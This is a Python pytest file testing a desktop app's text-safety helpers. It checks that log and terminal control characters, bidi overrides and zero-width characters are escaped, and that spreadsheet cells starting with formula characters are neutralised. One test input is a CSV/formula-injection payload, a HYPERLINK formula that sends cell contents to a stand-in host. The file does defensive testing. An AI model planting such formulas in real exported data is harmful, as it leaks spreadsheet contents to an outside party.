"""Outside text shown escaped; spreadsheet cells that would run as formulas made text."""

from __future__ import annotations

import pytest

from anahp_desktop.text_safety import escape_controls, spreadsheet_cell


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[31mCID inválido\x1b[0m", "\\x1b[31mCID inválido\\x1b[0m"),
        ("linha 1\nERRO forjado", "linha 1\\nERRO forjado"),
        ("a\r\tb", "a\\r\\tb"),
        ("\u202egpj.exe", "\\u202egpj.exe"),
        ("zero\u200bwidth\u2028sep", "zero\\u200bwidth\\u2028sep"),
        ("Clínica Médica — ção", "Clínica Médica — ção"),
    ],
)
def test_controls_and_format_characters_become_visible_escapes(text: str, shown: str) -> None:
    assert escape_controls(text) == shown


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '=HYPERLINK("http://x.example/?"&A1,"clique")',
            '\'=HYPERLINK("http://x.example/?"&A1,"clique")',
        ),
        ("+55 11", "'+55 11"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("maria", "maria"),
        (-3, -3),
        (None, None),
    ],
)
def test_cells_that_look_like_formulas_become_text(value: object, cell: object) -> None:
    assert spreadsheet_cell(value) == cell
